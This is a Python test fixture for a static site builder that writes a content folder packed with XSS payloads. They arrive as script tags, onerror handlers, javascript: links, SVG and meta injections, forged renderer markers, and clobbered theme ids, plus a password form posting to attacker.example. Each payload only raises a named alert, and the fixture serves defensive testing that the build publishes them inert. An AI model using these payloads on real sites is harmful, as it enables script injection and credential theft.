"""Hostile but valid content: every way this project's tests know of to make a page run script, forge the
build's framing, shadow the theme's ids or rewrite text into markup. `check` accepts all of it (it is content an
author may write); the build must publish it with nothing live. Each payload calls alert() with its own name,
so a test that listens for dialogs says which one ran."""

from __future__ import annotations

from pathlib import Path

from contentkit import make_content, paper, write

ZEROS = "0" * 32

# (file name, title, body): one paper per class of attack.
PAPERS = {
    "2.0-forged-island.md": (
        "Forged framing",
        "\n".join(
            [
                "The renderer converts only marked Markdown; these try to end the marked part early.",
                "",
                "<!--/bp:markdown-->",
                "<script>alert('forged-plain')</script>",
                "<!--bp:markdown-->",
                "",
                f"<!--/bp:markdown:{ZEROS}-->",
                "<img src=https://invalid.invalid/x.png onerror=\"alert('forged-token')\">",
                f"<!--bp:markdown:{ZEROS}-->",
                "",
                "Text after the forged markers.",
            ]
        ),
    ),
    "3.0-raw-html.md": (
        "Raw HTML",
        "\n".join(
            [
                "<script>alert('script')</script>",
                "",
                '<img src="https://invalid.invalid/x.png" onerror="alert(\'onerror\')">',
                "",
                "<a href=\"javascript:alert('js-link')\">a javascript link</a>",
                "",
                "[markdown js link](javascript:alert('md-js-link'))",
                "",
                "<a href=\"data:text/html,<script>alert('data-link')</script>\">a data link</a>",
                "",
                "<iframe src=\"javascript:alert('iframe')\"></iframe>",
                "",
                '<svg onload="alert(\'svg\')"><circle r="1"/></svg>',
                "",
                "<math><mi xlink:href=\"javascript:alert('math')\">m</mi></math>",
                "",
                "<object data=\"javascript:alert('object')\"></object><embed src=\"javascript:alert('embed')\">",
                "",
                (
                    '<base href="https://attacker.example/">'
                    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'meta\')">'
                ),
                "",
                "<style>body{background:url(\"javascript:alert('style')\")}</style>",
                "",
                "<details open ontoggle=\"alert('ontoggle')\"><summary>s</summary>d</details>",
                "",
                '<p style="position:fixed;top:0" onclick="alert(\'onclick\')">Click me</p>',
                "",
                '<form action="https://attacker.example/steal"><input type="password" name="pw">'
                "<button formaction=\"javascript:alert('formaction')\">Log in</button></form>",
                "",
                "<![CDATA[<script>alert('cdata')</script>]]>",
                "",
                (
                    '<noscript><p title="</noscript>'
                    "<img src=https://invalid.invalid/x.png onerror=alert('noscript')>\"></noscript>"
                ),
                "",
                "`<script>alert('code')</script>` stays text.",
            ]
        ),
    ),
    "4.0-ids.md": (
        "Ids that are the theme's",
        "\n".join(
            [
                '<div id="__config">{"base": "https://attacker.example", "features": ["navigation.instant"]}</div>',
                "",
                '<p id="__search">search toggle</p><p id="__drawer">drawer toggle</p>',
                "",
                '<span id="bp-search-q">a search field</span> <a id="md-header" href="#__search">header</a>',
                "",
                "## __toc",
                "",
                "## Agenda",
                "",
                "A heading above whose slug is the theme's.",
            ]
        ),
    ),
    "5.0-front-matter.md": ("</title><script>alert('title')</script>", "A body."),
    "6.0-bundle-text.md": (
        "Text that looks like attributes",
        "\n".join(
            [
                "Quoted in code: `<a href=\"<img src=https://invalid.invalid/x.png onerror=alert('bundle-code')>\">`.",
                "",
                (
                    "Quoted in prose: the tag had href="
                    "\"&lt;img src=https://invalid.invalid/x.png onerror=alert('bundle-prose')&gt;\" in it."
                ),
                "",
                (
                    'An entity in a link: <a href="#&quot;&gt;'
                    "&lt;img src=https://invalid.invalid/x.png onerror=alert('bundle-href')&gt;\">x</a>"
                ),
            ]
        ),
    ),
    "7.0-links.md": (
        "Links to a published paper in every form",
        "\n".join(
            [
                '[inline](9.0-southern-police-station.md), [with a title](9.0-southern-police-station.md "t"),',
                "[upper case](9.0-southern-police-station.MD), [with a query](9.0-southern-police-station.md?x=1#top),",
                '[reference][ref], <a href="9.0-southern-police-station.md">raw HTML</a>,',
                "[the meeting](meeting.md), [its address](../2019-09-18/9.0-southern-police-station/).",
                "",
                "[ref]: 9.0-southern-police-station.md",
            ]
        ),
    ),
}

# Front-matter fields that reach the page head, headings, lists and feeds, each trying to become markup.
FRONT = {
    "summary": "\"<img src=https://invalid.invalid/x.png onerror=alert('summary')>\"",
    "from": "\"<script>alert('from')</script>\"",
    "recommendations": "[\"<script>alert('recommendation')</script>\"]",
    "contact_officers": (
        "[{name: \"<img src=https://invalid.invalid/x.png onerror=alert('contact')>\", "
        "role: \"</li><script>alert('role')</script>\"}]"
    ),
    "public_title": "\"<script>alert('public-title')</script>\"",
}

MEETING = """\
---
board: bcb
date: 2019-09-18
time: "15:00"
venue: "<script>alert('venue')</script>"
items:
  - {number: "1", title: "<img src=https://invalid.invalid/x.png onerror=alert('item')>"}
  - {number: "13", title: JPS Training, presenter: "<script>alert('presenter')</script>", verbal: true}
attendance:
  present:
    - name: "<script>alert('present')</script>"
      role: "<img src=https://invalid.invalid/x.png onerror=alert('present-role')>"
  apologies:
    - {name: "</li><script>alert('apologies')</script>", role: "<script>alert('apologies-role')</script>"}
  in_attendance:
    - {name: "<img src=https://invalid.invalid/x.png onerror=alert('in-attendance')>"}
declarations:
  - name: "<script>alert('declaration')</script>"
    item: "13"
    interest: "<img src=https://invalid.invalid/x.png onerror=alert('interest')>"
decisions:
  - item: "13"
    text: "<script>alert('decision')</script> [[2019-09-18#1]] <a href=javascript:alert('decision-link')>x</a>"
    outcome: agreed
    matters: [hostile-matter]
  - {item: "1", text: "</td><img src=https://invalid.invalid/x.png onerror=alert('decision-cell')>", outcome: noted}
minutes: {status: draft}
---
Minutes with forged framing:

<!--/bp:markdown-->
<script>alert('notes-forged')</script>

<div id="__config">{"base": "https://attacker.example"}</div>

## Agenda

<img src=https://invalid.invalid/x.png onerror="alert('notes-img')">
"""

BOARD = """\
organisation:
  name: "Office <script>alert('organisation')</script>"
boards:
  - id: bcb
    name: "Business Coordination Board <img src=https://invalid.invalid/x.png onerror=alert('board')>"
    description: "<script>alert('board-description')</script>"
themes:
  - {id: victims, name: Victims}
  - {id: communities, name: "Communities <script>alert('theme')</script>", aim: "<img src=https://invalid.invalid/x.png onerror=alert('aim')>"}
  - {id: transformation, name: Transformation}
"""  # noqa: E501 (a theme written on one line, as authors write them)

ACTIONS = """\
actions:
  - number: "6.0"
    raised: {meeting: 2019-09-18, item: "9.0"}
    action: "<script>alert('action')</script>"
    owner: "<img src=https://invalid.invalid/x.png onerror=alert('owner')>"
    target_date: 2019-11-14
    updates:
      - {date: 2019-09-18, text: "<script>alert('update')</script>"}
    status: ongoing
    matters: [hostile-matter]
"""


MATTERS = """\
matters:
  - id: hostile-matter
    title: "<script>alert('matter')</script>"
    description: "<img src=https://invalid.invalid/x.png onerror=alert('matter-description')>"
"""

NOTICE_ID = "2019-014-hostile-notice"
NOTICE = """\
---
number: "<script>alert('notice-number')</script>"
date: 2019-11-05
title: "</title><script>alert('notice-title')</script>"
decision: "<img src=https://invalid.invalid/x.png onerror=alert('notice-decision')>"
reasons: "</p><script>alert('notice-reasons')</script>"
financial_implications: "<svg onload=alert('notice-money')></svg>"
matters: [hostile-matter]
classification: official
status: published
---

The notice's text, with forged framing:

<!--/bp:markdown-->
<script>alert('notice-forged')</script>

<div id="__config">{"base": "https://attacker.example"}</div>

<img src=https://invalid.invalid/x.png onerror="alert('notice-img')">
<a href="javascript:alert('notice-js-link')">a javascript link</a> and [md](javascript:alert('notice-md-link'))

The [[2019-09-18#13|JPS item]] and [the paper](../meetings/2019-09-18/9.0-southern-police-station.md).
"""


def make_hostile_content(root: Path) -> Path:
    """A valid content folder holding every payload above."""
    content = make_content(root)
    write(content, "board.yml", BOARD)
    write(content, "actions.yml", ACTIONS)
    write(content, "matters.yml", MATTERS)
    write(content, f"decisions/{NOTICE_ID}.md", NOTICE)
    write(content, "meetings/2019-09-18/meeting.md", MEETING)
    for name, (title, body) in PAPERS.items():
        extra = FRONT if name.startswith("5.0") else {}
        write(content, f"meetings/2019-09-18/{name}", paper(title, name.split("-")[0], body, **extra))
    return content
